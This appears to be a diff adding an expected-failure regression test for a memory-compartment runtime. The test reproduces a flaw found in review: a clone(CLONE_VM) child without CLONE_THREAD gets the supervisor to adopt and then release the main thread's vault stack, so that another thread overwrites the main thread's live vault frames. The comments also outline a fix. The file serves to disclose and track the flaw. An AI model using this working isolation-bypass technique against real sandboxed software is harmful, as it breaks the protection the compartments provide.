@@ -1,0 +1,156 @@
+// The supervisor's "adopt" request (after fork, the one thread left takes
+// over every compartment stack its parent's threads held) checks only that
+// the asking process has one thread (/proc/<tgid>/status "Threads: 1").
+// A process made with clone(CLONE_VM) and no CLONE_THREAD (or the child of
+// a vfork, as posix_spawn makes) has one thread and shares our address
+// space, owner table included. The default domain makes one, and from it
+// (raw system calls: an attacker with the program counter) asks the
+// supervisor to adopt - the main thread's vault stack becomes the child's,
+// written by the supervisor into our (shared) read-only owner table - and
+// then to release that stack: it is free again while the main thread is
+// still running vault code on it (blocked in read()). A second thread of
+// the process then enters the vault, claims that stack and runs the vault's
+// code from its top: its frames overwrite the main thread's live vault
+// frames. Here 1008 of the 1024 bytes of the main thread's vault locals
+// change, then the main thread dies on its way back. With a vault entry
+// that keeps its argument in a local, the attacker's value lands in the
+// main thread's vault frame: the vault's own code then reads and writes
+// through it with the vault's rights. The threat model says which thread
+// holds which stack is on read-only pages and "no store makes two threads
+// share one"; this makes two threads share one with two system calls.
+// Found in the second review of the default domain's program counter
+// (attacker model B); verified natively (6.18) and in the QEMU guest (6.1).
+//
+// Fix (not made here): the supervisor should let "adopt" rewrite an entry
+// only for a thread that does not share the caller's address space (the
+// parent's threads after fork are in another mm: kcmp(caller, tid,
+// KCMP_VM) tells them apart; a live task in the same mm must keep its
+// stacks), or refuse clone/clone3/vfork with CLONE_VM but without
+// CLONE_THREAD for our process and make posix_spawn's child unable to ask
+// (the filter cannot tell a vfork child's requests from its parent's
+// otherwise).
+//
+// This test expects the adopt (or the release after it) to be refused and
+// the main thread's vault locals to stay as they were. OPEN: expected to
+// fail until fixed.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
+// RUN: %run %t | FileCheck %s
+// CHECK: attacks-review2-adopt-shared-vm: ok
+#include "Inputs/check.h"
+/* include/bulkhead/abi.h (not installed for programs) */
+#define BH_MAX_COMPARTMENTS 15
+#define BH_STACKS_PER_ARENA 512
+#include <pthread.h>
+#include <sched.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+
+/* The runtime's owner table (stacks.c): key-0, read-only, readable. */
+extern uint32_t stack_owners[BH_MAX_COMPARTMENTS * BH_STACKS_PER_ARENA] __asm__(
+    "__bulkhead_stack_owners");
+
+#define REQUEST_FD 0x7ffffff3 /* runtime/syscalls.h: the runtime's requests */
+enum { CLAIM = 1, RELEASE, ADOPT };
+
+BULKHEAD_ENTRY(vault) int vault_wait(int fd) {
+  volatile char buf[1024];
+  for (int k = 0; k < 1024; k++)
+    buf[k] = 'v';
+  char c;
+  if (read(fd, &c, 1) != 1)
+    return -1;
+  int changed = 0;
+  for (int k = 0; k < 1024; k++)
+    changed += buf[k] != 'v';
+  /* said here: the way back may not survive what happened to the frame */
+  printf("main, back in the vault: %d bytes of its locals changed\n", changed);
+  fflush(stdout);
+  return changed;
+}
+BULKHEAD_ENTRY(vault) int vault_scribble(void) {
+  volatile char buf[1024];
+  for (int k = 0; k < 1024; k++)
+    buf[k] = 'Z';
+  return buf[5];
+}
+BULKHEAD_ENTRY(vault) int vault_touch(void) { return 0; }
+
+static int fds[2];
+static volatile int go, child_done, slot = -1;
+static volatile long adopt_rc = -1, release_rc = -1;
+
+static long raw_syscall4(long nr, long a, long b, long c, long d) {
+  long r;
+  register long r10 __asm__("r10") = d;
+  __asm__ volatile("syscall"
+                   : "=a"(r)
+                   : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
+                   : "rcx", "r11", "memory");
+  return r;
+}
+
+/* A process of its own with our memory: no libc, no TLS of its own. */
+static int shared_vm_child(void *arg) {
+  (void)arg;
+  while (!go)
+    ;
+  adopt_rc = raw_syscall4(SYS_ioctl, REQUEST_FD, ADOPT, 0, 0);
+  if (adopt_rc == 0)
+    release_rc = raw_syscall4(SYS_ioctl, REQUEST_FD, RELEASE, slot / BH_STACKS_PER_ARENA,
+                              slot % BH_STACKS_PER_ARENA);
+  child_done = 1;
+  return 0;
+}
+
+static void *second_thread(void *arg) {
+  (void)arg;
+  while (!child_done)
+    ;
+  printf("adopt %ld, release %ld\n", adopt_rc, release_rc);
+  if (adopt_rc == 0 && release_rc == 0) {
+    vault_scribble(); /* claims the freed stack: the main thread's */
+    printf("ATTACK: the main thread's vault stack is now held by thread %u too\n",
+           stack_owners[slot]);
+  }
+  fflush(stdout);
+  CHECK(write(fds[1], "x", 1) == 1);
+  return NULL;
+}
+
+static void *waker(void *arg) {
+  (void)arg;
+  usleep(300 * 1000); /* the main thread is blocked in the vault by now */
+  go = 1;
+  return NULL;
+}
+
+int main(void) {
+  CHECK(pipe(fds) == 0);
+  vault_touch(); /* the main thread holds a vault stack from here */
+  uint32_t me = (uint32_t)syscall(SYS_gettid);
+  for (int k = 0; k < BH_MAX_COMPARTMENTS * BH_STACKS_PER_ARENA; k++)
+    if (stack_owners[k] == me)
+      slot = k;
+  CHECK(slot >= 0);
+  size_t size = 1 << 20;
+  char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  CHECK(stack != MAP_FAILED);
+  pid_t pid = clone(shared_vm_child, stack + size, CLONE_VM | SIGCHLD, NULL);
+  CHECK(pid > 0);
+  pthread_t t, w;
+  CHECK(pthread_create(&t, NULL, second_thread, NULL) == 0);
+  CHECK(pthread_create(&w, NULL, waker, NULL) == 0);
+  int changed = vault_wait(fds[0]);
+  CHECK(pthread_join(t, NULL) == 0);
+  CHECK(pthread_join(w, NULL) == 0);
+  CHECK(waitpid(pid, NULL, 0) == pid);
+  if (changed) {
+    puts("attacks-review2-adopt-shared-vm: BROKEN: another thread's vault frames overwrote "
+         "the main thread's");
+    return 1;
+  }
+  puts("attacks-review2-adopt-shared-vm: ok");
+  return 0;
+}
